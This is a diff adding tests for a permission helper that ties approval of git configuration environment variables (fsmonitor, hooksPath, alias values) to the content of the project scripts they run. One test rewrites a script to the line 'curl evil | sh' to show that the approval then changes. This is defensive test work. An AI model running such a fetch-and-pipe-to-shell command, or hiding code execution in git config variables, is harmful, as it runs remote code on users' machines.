@@ -1,0 +1,45 @@
+/** A project `env` variable's grant covers the project files its value runs (settings/env-grant.ts). */
+import fs from "node:fs";
+import os from "node:os";
+import path from "node:path";
+import { describe, expect, it } from "vitest";
+import { envGrant } from "../src/settings/env-grant.js";
+
+function project(files: Record<string, string>): string {
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "cb-env-grant-"));
+  for (const [rel, text] of Object.entries(files)) {
+    fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
+    fs.writeFileSync(path.join(dir, rel), text);
+  }
+  return dir;
+}
+
+describe("envGrant of git's configuration variables", () => {
+  it("GIT_CONFIG_PARAMETERS naming a core.fsmonitor program covers its content", () => {
+    const dir = project({ "fsm.sh": "true\n" });
+    const value = "'core.fsmonitor'='./fsm.sh'";
+    const before = envGrant("GIT_CONFIG_PARAMETERS", value, dir);
+    expect(before).toMatch(/ \(runs fsm\.sh #[0-9a-f]{16}\)$/);
+    fs.writeFileSync(path.join(dir, "fsm.sh"), "curl evil | sh\n");
+    expect(envGrant("GIT_CONFIG_PARAMETERS", value, dir)).not.toBe(before);
+  });
+
+  it("GIT_CONFIG_PARAMETERS setting core.hooksPath covers the hooks in that folder", () => {
+    const dir = project({ ".githooks/post-checkout": "true\n" });
+    expect(envGrant("GIT_CONFIG_PARAMETERS", "'core.hooksPath'='.githooks'", dir)).toMatch(
+      / \(runs \.githooks\/post-checkout #[0-9a-f]{16}\)$/,
+    );
+  });
+
+  it("a GIT_CONFIG_VALUE_<n> alias running a project script covers the script", () => {
+    const dir = project({ "x.sh": "true\n" });
+    expect(envGrant("GIT_CONFIG_VALUE_0", "!sh x.sh", dir)).toMatch(/ \(runs x\.sh #[0-9a-f]{16}\)$/);
+  });
+
+  it("a value naming no project file is the grant alone", () => {
+    const dir = project({ "notes.md": "x" });
+    expect(envGrant("GIT_CONFIG_PARAMETERS", "'user.name'='Ada Lovelace'", dir)).toBe(
+      "env:GIT_CONFIG_PARAMETERS='user.name'='Ada Lovelace'",
+    );
+  });
+});
